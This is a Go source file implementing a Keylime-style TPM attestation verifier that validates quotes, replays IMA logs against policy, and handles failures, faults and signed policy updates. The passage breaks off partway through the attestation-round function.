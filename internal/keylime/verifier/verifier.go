// Package verifier implements the Keylime verifier: the trusted component
// that periodically challenges agents with fresh nonces, validates TPM
// quotes, replays the IMA measurement list against the quoted PCR 10
// aggregate, and evaluates every new measurement entry against the agent's
// runtime policy.
//
// Two behaviours studied by the paper are modeled explicitly:
//
//   - Stop-on-failure (problem P2): by default the verifier halts polling
//     for an agent after an attestation failure, leaving an incomplete
//     attestation log; an attacker can trigger a benign failure and act
//     inside the blind window. WithContinueOnFailure enables the paper's
//     recommended mitigation (always complete the full attestation).
//   - Incremental log verification: the verifier stores a running replay
//     aggregate over the prefix it has verified and fetches only new
//     entries, detecting reboots via the log-length counter.
package verifier

import (
	"context"
	"crypto/ecdsa"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"runtime"
	"strconv"
	"sync"
	"time"

	"repro/internal/filesig"
	"repro/internal/ima"
	"repro/internal/keylime/api"
	"repro/internal/keylime/audit"
	"repro/internal/keylime/httppool"
	"repro/internal/keylime/session"
	"repro/internal/measuredboot"
	"repro/internal/policy"
	"repro/internal/simclock"
	"repro/internal/tpm"
)

// State is the operational state of a monitored agent.
type State int

// Agent states (reduced from Keylime's operational_state set).
const (
	// StateStart: agent added, no attestation attempted yet.
	StateStart State = iota + 1
	// StateAttesting: last attestation succeeded; polling continues.
	StateAttesting
	// StateFailed: last attestation failed; with stop-on-failure the
	// verifier no longer polls this agent until an operator resumes it.
	StateFailed
	// StateDegraded: the last round(s) hit transient infrastructure
	// faults; no integrity verdict was reached and polling continues.
	StateDegraded
	// StateQuarantined: the circuit breaker opened after persistent
	// faults; the agent is re-probed at a capped interval.
	StateQuarantined
)

var stateNames = map[State]string{
	StateStart:       "Start",
	StateAttesting:   "Get Quote",
	StateFailed:      "Failed",
	StateDegraded:    "Degraded",
	StateQuarantined: "Quarantined",
}

// String returns the Keylime-style state name.
func (s State) String() string {
	if n, ok := stateNames[s]; ok {
		return n
	}
	return fmt.Sprintf("state(%d)", int(s))
}

// FailureType classifies attestation failures.
type FailureType int

// Failure types.
const (
	// FailureComms: the agent could not be reached or answered garbage.
	FailureComms FailureType = iota + 1
	// FailureQuoteInvalid: bad signature, stale nonce, or inconsistent
	// quote structure.
	FailureQuoteInvalid
	// FailureLogTampered: an IMA entry's template hash does not match its
	// fields.
	FailureLogTampered
	// FailureAggregateMismatch: replaying the log does not reproduce the
	// quoted PCR 10 value.
	FailureAggregateMismatch
	// FailureHashMismatch: a measured file's digest differs from every
	// allowed digest in the policy (the paper's FP error type 1).
	FailureHashMismatch
	// FailureNotInPolicy: a measured file is absent from the policy (the
	// paper's FP error type 2).
	FailureNotInPolicy
	// FailureMeasuredBoot: the boot event log does not replay to the
	// quoted PCR 0/4 values, or they diverge from the golden reference
	// state (bootloader/kernel substitution).
	FailureMeasuredBoot
)

var failureNames = map[FailureType]string{
	FailureComms:             "comms-error",
	FailureQuoteInvalid:      "invalid-quote",
	FailureLogTampered:       "log-tampered",
	FailureAggregateMismatch: "aggregate-mismatch",
	FailureHashMismatch:      "hash-mismatch",
	FailureNotInPolicy:       "file-not-in-policy",
	FailureMeasuredBoot:      "measured-boot-mismatch",
}

// String returns a short failure-type label.
func (t FailureType) String() string {
	if n, ok := failureNames[t]; ok {
		return n
	}
	return fmt.Sprintf("failure(%d)", int(t))
}

// Failure records one attestation failure.
type Failure struct {
	Time time.Time
	Type FailureType
	// Path is the measured path involved, when applicable.
	Path string
	// Detail is a human-readable explanation.
	Detail string
}

// Fault records one transient infrastructure fault: a round that could not
// obtain attestation evidence. Faults are operational telemetry, not
// integrity verdicts — they escalate to a FailureComms failure only after
// the configured fault budget of consecutive faulted rounds.
type Fault struct {
	Time time.Time
	// Attempts is how many quote requests the round made before giving up.
	Attempts int
	// Detail is the last underlying error.
	Detail string
}

// Result summarizes one attestation round.
type Result struct {
	// NewEntries is how many measurement entries were fetched this round.
	NewEntries int
	// VerifiedEntries is the total prefix length verified so far.
	VerifiedEntries int
	// RebootDetected reports that the agent's log restarted.
	RebootDetected bool
	// Failure is non-nil when the round failed.
	Failure *Failure
	// Degraded reports that the round ended in a transient infrastructure
	// fault: no evidence was obtained and no integrity verdict reached.
	// Failure is also set when the fault budget escalated to FailureComms.
	Degraded bool
	// Attempts is the total number of quote requests made this round.
	Attempts int
	// FaultDetail describes the transient fault when Degraded.
	FaultDetail string
	// ShadowWouldFail / ShadowWouldPass count this round's divergent
	// entries against the shadow candidate, when one is installed.
	ShadowWouldFail int
	ShadowWouldPass int
	// CheckLevel records which check authenticated this round (full,
	// session, full-forced); CheckNone on degraded rounds.
	CheckLevel CheckLevel
}

// Status is the externally visible state of a monitored agent.
type Status struct {
	AgentID         string
	State           State
	Attestations    int
	VerifiedEntries int
	Failures        []Failure
	// Halted reports that polling is stopped pending operator action.
	Halted bool
	// Degraded reports that the agent is currently in a run of transient
	// faults (state Degraded or Quarantined).
	Degraded bool
	// ConsecutiveFaults is the current run of faulted rounds.
	ConsecutiveFaults int
	// Faults is the recent transient-fault history (bounded).
	Faults []Fault
	// Breaker is the circuit-breaker state.
	Breaker BreakerState
	// BreakerOpenUntil is the reprobe deadline while the breaker is open.
	BreakerOpenUntil time.Time
	// PolicyGeneration is the rollout generation of the active policy
	// (0 = unmanaged: installed at enrollment or via legacy UpdatePolicy).
	PolicyGeneration uint64
	// ShadowGeneration is the generation occupying the shadow slot (0 =
	// empty); see ShadowStatus for the evaluation detail.
	ShadowGeneration uint64
	// SessionActive reports an established attestation session; the next
	// steady-state round will be a session-MAC round.
	SessionActive bool
	// SessionRoundsSinceFull counts session-MAC rounds since the last
	// full quote.
	SessionRoundsSinceFull int
	// LastCheckLevel is the check level of the last completed round
	// ("full", "session", "full-forced"; empty before the first round).
	LastCheckLevel string
}

// Sentinel errors.
var (
	ErrUnknownAgent   = errors.New("verifier: unknown agent")
	ErrRemoved        = errors.New("verifier: agent removed mid-round")
	ErrHalted         = errors.New("verifier: agent halted after failure (stop-on-failure)")
	ErrQuarantined    = errors.New("verifier: agent quarantined by circuit breaker (reprobe pending)")
	ErrDuplicate      = errors.New("verifier: agent already monitored")
	ErrRegistrar      = errors.New("verifier: registrar lookup failed")
	ErrAgentInactive  = errors.New("verifier: agent not activated at registrar")
	ErrUnsignedPolicy = errors.New("verifier: policy trust enforced; unsigned policy update rejected")
	ErrNoPolicyTrust  = errors.New("verifier: no policy trust store configured")
	// ErrStalePolicy rejects a signed policy whose metadata timestamp
	// predates the installed policy's — a replayed old envelope must not
	// roll an agent's policy backwards.
	ErrStalePolicy = errors.New("verifier: signed policy is older than the installed policy")
)

// monitored is the verifier's per-agent state. Each agent carries its own
// locks so cross-agent operations never contend: pollMu serializes rounds,
// mu guards the mutable fields (lock ordering pollMu > mu; see
// registry.go).
type monitored struct {
	// pollMu serializes attestation rounds for this agent: interleaved
	// polls would race on the verification frontier (offset + prefix
	// aggregate) and mis-replay the log.
	pollMu sync.Mutex

	// Immutable after enrollment.
	id    string
	url   string
	akPub []byte
	// akKey is the AK parsed once at enrollment; nil when akPub is not
	// valid PKIX DER, in which case rounds fall back to the per-round
	// parse and fail with the same FailureQuoteInvalid as before.
	akKey *ecdsa.PublicKey
	// akName is the TPM name of the enrolled AK — the session key
	// schedule's salt, binding sessions to the TPM-backed identity.
	akName tpm.Digest
	// attestURL is the agent's binary attestation endpoint.
	attestURL string

	// mu guards everything below.
	mu              sync.Mutex
	removed         bool
	pol             *policy.RuntimePolicy
	bootGolden      measuredboot.Golden
	state           State
	halted          bool
	nextOffset      int
	prefixAggregate tpm.Digest
	attestations    int
	failures        []Failure

	// Transient-fault tracking (see retry.go / breaker.go).
	consecutiveFaults int
	faults            []Fault
	breaker           breaker

	// Rollout state (see shadow.go): policyGen is the rollout generation
	// of the active policy (0 = unmanaged), and the shadow slot holds a
	// candidate evaluated side by side with the active policy, recording
	// would-be verdict divergence instead of alerting.
	policyGen uint64
	// polEnvelope is the DSSE envelope that sealed the active policy's
	// rollout bundle — provenance, carried opaque. Cleared whenever a
	// policy installs without one (rollback to an unsealed restore point).
	polEnvelope       json.RawMessage
	shadowPol         *policy.RuntimePolicy
	shadowGen         uint64
	shadowRounds      int
	shadowClean       int
	shadowWouldFail   int
	shadowWouldPass   int
	shadowDivergences []ShadowDivergence

	// Sessioned attestation (see session.go): sess is the established
	// session (nil = none; the next round runs a full quote), noBinary
	// remembers an agent that does not speak the binary wire format, and
	// lastCheck is the check level of the last completed round.
	sess      *verifierSession
	noBinary  bool
	lastCheck CheckLevel
}

// isRemoved reports whether the agent was unenrolled after this round
// obtained its pointer.
func (a *monitored) isRemoved() bool {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.removed
}

// maxFaultHistory bounds the per-agent transient-fault history.
const maxFaultHistory = 64

// Option configures the verifier.
type Option interface{ apply(*Verifier) }

type optionFunc func(*Verifier)

func (f optionFunc) apply(v *Verifier) { f(v) }

// WithClock sets the clock used for timestamps and polling.
func WithClock(c simclock.Clock) Option {
	return optionFunc(func(v *Verifier) { v.clock = c })
}

// WithHTTPClient sets the client used to reach agents and the registrar.
func WithHTTPClient(c *http.Client) Option {
	return optionFunc(func(v *Verifier) { v.client = c })
}

// WithPollInterval sets the continuous polling interval (default 2 min,
// Keylime's quote interval order of magnitude).
func WithPollInterval(d time.Duration) Option {
	return optionFunc(func(v *Verifier) { v.pollInterval = d })
}

// WithContinueOnFailure keeps polling and evaluating after attestation
// failures — the paper's recommended mitigation for problem P2.
func WithContinueOnFailure(on bool) Option {
	return optionFunc(func(v *Verifier) { v.continueOnFailure = on })
}

// WithRevocationHandler registers a callback invoked on every failure (the
// alerting/revocation webhook).
func WithRevocationHandler(fn func(agentID string, f Failure)) Option {
	return optionFunc(func(v *Verifier) { v.onRevocation = fn })
}

// WithPolicyTrust requires runtime-policy updates to arrive as envelopes
// signed by a trusted policy generator (the paper's §V ostree-style
// improvement). With a trust store installed, UpdatePolicy rejects unsigned
// policies; use UpdateSignedPolicy.
func WithPolicyTrust(ts *policy.TrustStore) Option {
	return optionFunc(func(v *Verifier) { v.policyTrust = ts })
}

// WithAuditLog records every attestation round into the hash-chained audit
// log (durable attestation).
func WithAuditLog(l *audit.Log) Option {
	return optionFunc(func(v *Verifier) { v.auditLog = l })
}

// WithAuditBatch makes PollAll collect the sweep's audit entries and
// commit them as one audit.Log.AppendBatch after the sweep drains — one
// journal write vector and one fsync per sweep instead of one per
// round. Commit-before-ack moves to sweep granularity: PollAll returns
// only after the batch is durable, but a crash mid-sweep loses the
// in-flight sweep's audit records (their verdicts are re-derived by the
// next sweep). Direct AttestOnce calls still audit inline.
func WithAuditBatch(on bool) Option {
	return optionFunc(func(v *Verifier) { v.auditBatch = on })
}

// WithFileSignatureTrust accepts any measured file whose ima-sig vendor
// signature verifies against the trusted vendor keys, without requiring
// its digest in the runtime policy — the §V signed-hashes improvement.
// Unsigned files (and files with invalid signatures) still go through the
// policy.
func WithFileSignatureTrust(vs *filesig.VerifySet) Option {
	return optionFunc(func(v *Verifier) { v.fileSigTrust = vs })
}

// WithRetryPolicy tunes retry/backoff/timeout behaviour for quote fetches
// and registrar lookups. Zero fields keep their defaults.
func WithRetryPolicy(p RetryPolicy) Option {
	return optionFunc(func(v *Verifier) { v.retry = p.withDefaults() })
}

// WithCommsFaultBudget sets how many consecutive faulted rounds are
// tolerated before a FailureComms failure is recorded (default 3). Unlike
// integrity failures, the escalation never halts the agent: an unreachable
// host is an availability problem, and halting it would reopen the paper's
// P2 blind window on a single dropped packet.
func WithCommsFaultBudget(n int) Option {
	return optionFunc(func(v *Verifier) {
		if n > 0 {
			v.faultBudget = n
		}
	})
}

// WithCircuitBreaker tunes the per-agent circuit breaker that quarantines
// persistently unreachable agents. Zero fields keep their defaults; a
// negative Threshold disables quarantining.
func WithCircuitBreaker(cfg BreakerConfig) Option {
	return optionFunc(func(v *Verifier) { v.breakerCfg = cfg.withDefaults() })
}

// WithPollConcurrency bounds the PollAll worker pool (default
// 4·GOMAXPROCS, minimum 8 — rounds are network-bound, so the sweep pool
// usefully runs wider than the core count). Per-agent rounds stay
// serialized on the agent's poll mutex; concurrency only spans distinct
// agents, so one slow or hung agent cannot stall the fleet.
func WithPollConcurrency(n int) Option {
	return optionFunc(func(v *Verifier) {
		if n > 0 {
			v.pollConcurrency = n
		}
	})
}

// WithVerifyWorkers bounds the worker pool used to validate large IMA
// entry batches (default GOMAXPROCS). Template-hash validation is
// per-entry independent and fans out for batches past a threshold (reboot
// refetch, first poll); the PCR fold itself is an inherently sequential
// extend chain and always runs in order. n <= 0 keeps the default.
func WithVerifyWorkers(n int) Option {
	return optionFunc(func(v *Verifier) {
		if n > 0 {
			v.verifyWorkers = n
		}
	})
}

// WithRoundDeadline bounds each agent's attestation round on the
// verifier's Clock (default: unbounded — the per-request timeouts and
// attempt cap already bound a round). When the deadline fires, the round
// is cut off and recorded as a transient fault.
func WithRoundDeadline(d time.Duration) Option {
	return optionFunc(func(v *Verifier) { v.roundDeadline = d })
}

// Verifier monitors a fleet of agents. Construct with New; it is safe for
// concurrent use.
type Verifier struct {
	registrarURL      string
	client            *http.Client
	clock             simclock.Clock
	pollInterval      time.Duration
	continueOnFailure bool
	onRevocation      func(string, Failure)
	policyTrust       *policy.TrustStore
	auditLog          *audit.Log
	auditBatch        bool
	fileSigTrust      *filesig.VerifySet
	rng               io.Reader
	retry             RetryPolicy
	faultBudget       int
	breakerCfg        BreakerConfig
	pollConcurrency   int
	verifyWorkers     int
	roundDeadline     time.Duration
	jitter            *jitterRand
	nonces            *nonceSource

	agents *registry

	// dirty tracks agents whose persisted state is stale: every mutation
	// (round outcome, enrollment, removal, policy swap, resume) marks its
	// agent, and ExportDirty drains the set so the durability layer
	// journals only changed rows instead of marshaling the whole fleet
	// per sweep. dirtyMu is a leaf lock: never held with any other.
	dirtyMu sync.Mutex
	dirty   map[string]struct{}

	// statsProviders are named operational-stats sources served under
	// GET /v2/stats/{name} (see RegisterStats). The registry lives on the
	// verifier so components the verifier must not import (webhook outbox,
	// rollout controller) can surface their state through the management
	// API. statsMu is a leaf lock.
	statsMu        sync.Mutex
	statsProviders map[string]func() any

	// ownsFn is the cluster ownership predicate (see ownership.go); nil
	// owns every agent. ownsMu is a leaf lock.
	ownsMu sync.RWMutex
	ownsFn func(agentID string) bool

	// Sessioned attestation / wire format settings (see session.go).
	// sessCfgMu is a leaf lock guarding the three settings so
	// SetSessionPolicy can change them at runtime.
	sessCfgMu  sync.RWMutex
	sessEvery  int
	sessTTL    time.Duration
	wireBinary bool

	// Batched quote verification (see batch.go): the pool is created
	// lazily on the first full-quote verification. batchWorkers < 0
	// disables batching (inline verification).
	batchWorkers int
	batchOnce    sync.Once
	batch        *batchVerifier
	closeOnce    sync.Once

	// Cumulative PollAll counters served by the "poll" stats provider
	// (guarded by statsMu).
	pollSweeps int
	pollTotals PollStats
	pollLast   PollStats
}

// defaultPollConcurrency sizes the PollAll worker pool to the host:
// attestation rounds block on the network, so the pool runs wider than
// the core count.
func defaultPollConcurrency() int {
	n := 4 * runtime.GOMAXPROCS(0)
	if n < 8 {
		n = 8
	}
	return n
}

// New creates a verifier. registrarURL may be empty when agents are added
// with AddAgentWithAK.
func New(registrarURL string, opts ...Option) *Verifier {
	v := &Verifier{
		registrarURL:    registrarURL,
		clock:           simclock.Real{},
		pollInterval:    2 * time.Minute,
		rng:             rand.Reader,
		retry:           RetryPolicy{}.withDefaults(),
		faultBudget:     3,
		breakerCfg:      BreakerConfig{}.withDefaults(),
		pollConcurrency: defaultPollConcurrency(),
		verifyWorkers:   runtime.GOMAXPROCS(0),
		jitter:          newJitterRand(1),
		agents:          newRegistry(),
		dirty:           make(map[string]struct{}),
		statsProviders:  make(map[string]func() any),
	}
	for _, opt := range opts {
		opt.apply(v)
	}
	if v.client == nil {
		// No explicit client: use a pooled transport whose per-host idle
		// pool matches the sweep concurrency, so poll rounds reuse warm
		// connections instead of re-dialing the fleet every interval.
		v.client = httppool.NewClient(v.pollConcurrency)
	}
	v.nonces = newNonceSource(v.rng)
	v.RegisterStats("poll", v.pollStatsSnapshot)
	return v
}

// AddAgent starts monitoring an agent: the AK public key is fetched from
// the registrar, which must report the agent as activated. Transient
// registrar faults (transport errors, timeouts, 5xx) are retried per the
// retry policy so infrastructure churn does not fail enrollments.
func (v *Verifier) AddAgent(agentID, agentURL string, pol *policy.RuntimePolicy) error {
	info, err := v.registrarLookup(context.Background(), agentID)
	if err != nil {
		return fmt.Errorf("%w: %v", ErrRegistrar, err)
	}
	if !info.Active {
		return fmt.Errorf("%w: %s", ErrAgentInactive, agentID)
	}
	akPub, err := base64.StdEncoding.DecodeString(info.AKPub)
	if err != nil {
		return fmt.Errorf("%w: decoding AK: %v", ErrRegistrar, err)
	}
	return v.AddAgentWithAK(agentID, agentURL, akPub, pol)
}

// registrarLookup fetches an agent's registrar record, retrying transient
// faults with backoff and a per-request timeout.
func (v *Verifier) registrarLookup(ctx context.Context, agentID string) (api.AgentInfo, error) {
	backoff := v.retry.InitialBackoff
	var lastErr error
	for attempt := 1; ; attempt++ {
		info, err := v.registrarLookupOnce(ctx, agentID)
		if err == nil {
			return info, nil
		}
		lastErr = err
		if attempt >= v.retry.MaxAttempts || !retryableComms(err) || ctx.Err() != nil {
			return api.AgentInfo{}, lastErr
		}
		if err := v.sleepBackoff(ctx, backoff); err != nil {
			return api.AgentInfo{}, lastErr
		}
		backoff = v.retry.nextBackoff(backoff)
	}
}

func (v *Verifier) registrarLookupOnce(ctx context.Context, agentID string) (api.AgentInfo, error) {
	tctx, stop := v.virtualTimeout(ctx, v.retry.RequestTimeout)
	defer stop()
	req, err := http.NewRequestWithContext(tctx, http.MethodGet,
		v.registrarURL+"/v2/agents/"+url.PathEscape(agentID), nil)
	if err != nil {
		return api.AgentInfo{}, permanentErr("building registrar request: %v", err)
	}
	resp, err := v.client.Do(req)
	if err != nil {
		return api.AgentInfo{}, transientErr("registrar request: %v", err)
	}
	defer func() { _ = resp.Body.Close() }()
	if resp.StatusCode != http.StatusOK {
		if resp.StatusCode >= 500 {
			return api.AgentInfo{}, transientErr("registrar status %d", resp.StatusCode)
		}
		return api.AgentInfo{}, permanentErr("registrar status %d", resp.StatusCode)
	}
	var info api.AgentInfo
	if err := json.NewDecoder(resp.Body).Decode(&info); err != nil {
		return api.AgentInfo{}, transientErr("decoding agent info: %v", err)
	}
	return info, nil
}

// AddAgentWithAK starts monitoring an agent with an out-of-band trusted AK.
// The AK is parsed from DER here, once per enrollment, so attestation
// rounds verify quotes against the cached key instead of re-parsing every
// poll.
func (v *Verifier) AddAgentWithAK(agentID, agentURL string, akPub []byte, pol *policy.RuntimePolicy) error {
	// A malformed AK is kept nil and surfaces at attestation time as the
	// same invalid-quote failure the per-round parse used to produce.
	akKey, _ := tpm.ParseAKPublic(akPub)
	a := &monitored{
		id:        agentID,
		url:       agentURL,
		akPub:     append([]byte(nil), akPub...),
		akKey:     akKey,
		akName:    tpm.AKName(akPub),
		attestURL: agentURL + api.AttestPath,
		pol:       pol.Clone(),
		state:     StateStart,
	}
	if !v.agents.insert(agentID, a) {
		return fmt.Errorf("%w: %s", ErrDuplicate, agentID)
	}
	v.markDirty(agentID)
	return nil
}

// RemoveAgent stops monitoring an agent. A round already in flight for the
// agent observes the removal and reports ErrRemoved instead of recording a
// verdict against the unenrolled agent.
func (v *Verifier) RemoveAgent(agentID string) error {
	a, ok := v.agents.remove(agentID)
	if !ok {
		return fmt.Errorf("%w: %s", ErrUnknownAgent, agentID)
	}
	a.mu.Lock()
	a.removed = true
	a.mu.Unlock()
	v.markDirty(agentID)
	return nil
}

// UpdatePolicy atomically replaces the runtime policy for an agent — the
// operation the dynamic policy generator performs before each system
// update. With a policy trust store installed, unsigned updates are
// rejected (use UpdateSignedPolicy).
func (v *Verifier) UpdatePolicy(agentID string, pol *policy.RuntimePolicy) error {
	if v.policyTrust != nil {
		return ErrUnsignedPolicy
	}
	return v.swapPolicy(agentID, pol, false)
}

// UpdateSignedPolicy verifies the envelope against the trusted policy-
// generator keys and installs the contained policy. A verified policy
// whose metadata timestamp predates the installed policy's is rejected
// with ErrStalePolicy: a captured old envelope re-sent by an attacker (or
// a confused orchestrator) must not roll the policy backwards.
func (v *Verifier) UpdateSignedPolicy(agentID string, env policy.Envelope) error {
	if v.policyTrust == nil {
		return ErrNoPolicyTrust
	}
	pol, err := v.policyTrust.Verify(env)
	if err != nil {
		return fmt.Errorf("verifier: rejecting policy update: %w", err)
	}
	return v.swapPolicy(agentID, pol, true)
}

// swapPolicy installs a new policy for the agent. The swap resets the
// policy generation to 0 (unmanaged): generations are owned by the rollout
// controller's InstallPolicyGeneration path. checkStale enforces the
// signed-path downgrade guard.
func (v *Verifier) swapPolicy(agentID string, pol *policy.RuntimePolicy, checkStale bool) error {
	a, ok := v.agents.get(agentID)
	if !ok {
		return fmt.Errorf("%w: %s", ErrUnknownAgent, agentID)
	}
	cloned := pol.Clone()
	a.mu.Lock()
	if checkStale {
		curTS := a.pol.Meta().Timestamp
		newTS := cloned.Meta().Timestamp
		if !curTS.IsZero() && !newTS.IsZero() && newTS.Before(curTS) {
			a.mu.Unlock()
			return fmt.Errorf("%w: signed %v, installed %v", ErrStalePolicy, newTS, curTS)
		}
	}
	a.pol = cloned
	a.policyGen = 0
	a.mu.Unlock()
	v.markDirty(agentID)
	return nil
}

// SetBootGolden installs the measured-boot reference state for an agent:
// subsequent attestations validate the boot event log against the quoted
// PCR 0/4 values and these golden values. Pass nil to disable.
func (v *Verifier) SetBootGolden(agentID string, g measuredboot.Golden) error {
	a, ok := v.agents.get(agentID)
	if !ok {
		return fmt.Errorf("%w: %s", ErrUnknownAgent, agentID)
	}
	var cp measuredboot.Golden
	if g != nil {
		cp = make(measuredboot.Golden, len(g))
		for pcr, d := range g {
			cp[pcr] = d
		}
	}
	a.mu.Lock()
	a.bootGolden = cp
	// The evaluation basis changed: a session round (which skips boot
	// validation by construction) must not bridge it — force a full quote.
	a.sess = nil
	a.mu.Unlock()
	v.markDirty(agentID)
	return nil
}

// Resume re-arms polling for a failed agent after the operator resolved the
// failure (e.g. fixed the policy). Verified-prefix state is retained, so
// attestation picks up at the entry that failed. Resume also resets the
// fault counter and closes the circuit breaker.
func (v *Verifier) Resume(agentID string) error {
	a, ok := v.agents.get(agentID)
	if !ok {
		return fmt.Errorf("%w: %s", ErrUnknownAgent, agentID)
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	a.halted = false
	a.consecutiveFaults = 0
	a.breaker.recordSuccess()
	// Whatever the operator fixed, the next round re-verifies in full.
	a.sess = nil
	if a.state == StateFailed || a.state == StateDegraded || a.state == StateQuarantined {
		a.state = StateAttesting
	}
	v.markDirty(agentID)
	return nil
}

// Status reports the current state of an agent.
func (v *Verifier) Status(agentID string) (Status, error) {
	a, ok := v.agents.get(agentID)
	if !ok {
		return Status{}, fmt.Errorf("%w: %s", ErrUnknownAgent, agentID)
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	return Status{
		AgentID:           a.id,
		State:             a.state,
		Attestations:      a.attestations,
		VerifiedEntries:   a.nextOffset,
		Failures:          append([]Failure(nil), a.failures...),
		Halted:            a.halted,
		Degraded:          a.state == StateDegraded || a.state == StateQuarantined,
		ConsecutiveFaults: a.consecutiveFaults,
		Faults:            append([]Fault(nil), a.faults...),
		Breaker:           a.breaker.state,
		BreakerOpenUntil:  a.breaker.openUntil,
		PolicyGeneration:  a.policyGen,
		ShadowGeneration:  a.shadowGen,
		SessionActive:     a.sess != nil,
		SessionRoundsSinceFull: func() int {
			if a.sess != nil {
				return a.sess.roundsSinceFull
			}
			return 0
		}(),
		LastCheckLevel: a.lastCheck.String(),
	}, nil
}

// AgentIDs returns the monitored agent ids.
func (v *Verifier) AgentIDs() []string {
	return v.agents.ids()
}

// markDirty flags an agent's persisted state as stale.
func (v *Verifier) markDirty(agentID string) {
	v.dirtyMu.Lock()
	v.dirty[agentID] = struct{}{}
	v.dirtyMu.Unlock()
}

// fail records a failure, fires the revocation handler, and halts the agent
// unless continue-on-failure is enabled.
func (v *Verifier) fail(a *monitored, f Failure) *Failure {
	a.mu.Lock()
	a.failures = append(a.failures, f)
	a.state = StateFailed
	// An integrity failure invalidates the session: the next round must
	// re-verify the full evidence chain, never coast on a MAC.
	a.sess = nil
	if !v.continueOnFailure {
		a.halted = true
	}
	a.mu.Unlock()
	v.markDirty(a.id)
	if v.onRevocation != nil {
		v.onRevocation(a.id, f)
	}
	return &f
}

// commsFault records a transient infrastructure fault for the round: the
// agent stays in Degraded (or Quarantined, once the breaker opens) and is
// never halted. When the consecutive-fault run reaches the fault budget, a
// single FailureComms failure is recorded and the revocation handler fires
// so operators learn about the outage — but polling continues, because an
// unreachable host is an availability problem, not evidence of compromise,
// and halting it would reopen the paper's P2 blind window.
func (v *Verifier) commsFault(a *monitored, now time.Time, attempts int, err error) Result {
	a.mu.Lock()
	a.consecutiveFaults++
	ft := Fault{Time: now, Attempts: attempts, Detail: err.Error()}
	a.faults = append(a.faults, ft)
	if len(a.faults) > maxFaultHistory {
		a.faults = append(a.faults[:0], a.faults[len(a.faults)-maxFaultHistory:]...)
	}
	a.state = StateDegraded
	if a.breaker.recordFault(now, v.breakerCfg, a.consecutiveFaults) {
		a.state = StateQuarantined
	}
	var failure *Failure
	if a.consecutiveFaults == v.faultBudget {
		f := Failure{Time: now, Type: FailureComms,
			Detail: fmt.Sprintf("%d consecutive transient faults (budget %d), last: %v",
				a.consecutiveFaults, v.faultBudget, err)}
		a.failures = append(a.failures, f)
		failure = &f
	}
	a.mu.Unlock()
	v.markDirty(a.id)
	if failure != nil && v.onRevocation != nil {
		v.onRevocation(a.id, *failure)
	}
	return Result{Degraded: true, Attempts: attempts, FaultDetail: ft.Detail, Failure: failure}
}

// commsOK resets the fault run after a successful fetch: the agent is
// reachable again, the breaker closes, and a degraded/quarantined state
// returns to attesting (the round outcome may still set Failed).
func (v *Verifier) commsOK(a *monitored) {
	a.mu.Lock()
	a.consecutiveFaults = 0
	a.breaker.recordSuccess()
	if a.state == StateDegraded || a.state == StateQuarantined {
		a.state = StateAttesting
	}
	a.mu.Unlock()
}

// AttestOnce runs one attestation round for the agent. When the agent is
// halted (stop-on-failure), it returns ErrHalted without contacting the
// agent — the blind window of problem P2. With an audit log configured,
// every completed round (pass or fail) is recorded durably.
func (v *Verifier) AttestOnce(ctx context.Context, agentID string) (Result, error) {
	return v.attestRecorded(ctx, agentID, nil)
}

// attestRecorded runs one round and records it in the audit log. With a
// collector (PollAll in batch mode) the sealed entry is deferred to the
// sweep's single batched append; without one it is appended — and made
// durable — inline before the result is returned.
func (v *Verifier) attestRecorded(ctx context.Context, agentID string, collect *[]audit.Entry) (Result, error) {
	res, err := v.attestOnce(ctx, agentID)
	// Degraded rounds obtained no evidence: they are not audited as passes.
	// The round that escalates to FailureComms is audited as a failure.
	if err == nil && v.auditLog != nil && (!res.Degraded || res.Failure != nil) {
		entry := audit.Entry{
			Time:            v.clock.Now(),
			AgentID:         agentID,
			Outcome:         audit.OutcomePass,
			NewEntries:      res.NewEntries,
			VerifiedEntries: res.VerifiedEntries,
			RebootDetected:  res.RebootDetected,
			CheckLevel:      res.CheckLevel.String(),
		}
		if res.Failure != nil {
			entry.Outcome = audit.OutcomeFail
			entry.FailureType = res.Failure.Type.String()
			entry.FailurePath = res.Failure.Path
		}
		if collect != nil {
			*collect = append(*collect, entry)
		} else if _, aerr := v.auditLog.Append(entry); aerr != nil {
			return res, fmt.Errorf("verifier: recording attestation: %w", aerr)
		}
	}
	return res, err
}

// attestOnce performs the attestation round. Rounds for one agent are
// serialized on the agent's poll mutex; no lock is held across network
// I/O or quote verification.
func (v *Verifier) attestOnce(ctx context.Context, agentID string) (Result, error) {
	a, ok := v.agents.get(agentID)
	if !ok {
		return Result{}, fmt.Errorf("%w: %s", ErrUnknownAgent, agentID)
	}
	if err := v.checkOwned(agentID); err != nil {
		return Result{}, err
	}
	a.pollMu.Lock()
	defer a.pollMu.Unlock()

	now := v.clock.Now()
	a.mu.Lock()
	if a.removed {
		a.mu.Unlock()
		return Result{}, fmt.Errorf("%w: %s", ErrRemoved, agentID)
	}
	if a.halted {
		a.mu.Unlock()
		return Result{}, fmt.Errorf("%w: %s", ErrHalted, agentID)
	}
	if !a.breaker.allow(now) {
		a.mu.Unlock()
		return Result{}, fmt.Errorf("%w: %s", ErrQuarantined, agentID)
	}
	offset := a.nextOffset
	pol := a.pol
	bootGolden := a.bootGolden
	shadowPol := a.shadowPol
	shadowGen := a.shadowGen
	sess := a.sess
	noBinary := a.noBinary
	a.mu.Unlock()

	if v.roundDeadline > 0 {
		var stopRound func()
		ctx, stopRound = v.virtualTimeout(ctx, v.roundDeadline)
		defer stopRound()
	}

	cfg := v.sessionCfg()
	useBinary := cfg.binary && !noBinary
	sessionsOn := useBinary && cfg.every > 1

	// Round decision: a session-MAC round runs only for a live session
	// this verifier negotiated itself, below its rotation count and TTL.
	// Everything else — including a session restored from a snapshot or
	// handed off by the cluster layer — runs a full quote; restored
	// sessions are never trusted blind. estID is the fresh session ID any
	// full quote this round may establish (also sent with session
	// requests as a renew hint, so an agent-side escalation re-keys in
	// the same round trip).
	checkLevel := CheckFull
	var estID session.ID
	if sessionsOn {
		if id, iderr := v.newSessionID(); iderr == nil {
			estID = id
		}
	}
	trySession := sessionsOn && sess != nil && !sess.forceFull && !estID.IsZero() &&
		sess.roundsSinceFull < cfg.every-1 &&
		(cfg.ttl <= 0 || now.Sub(sess.established) < cfg.ttl)
	if sessionsOn && sess != nil && sess.forceFull {
		checkLevel = CheckForcedFull
	}
	var replaces session.ID
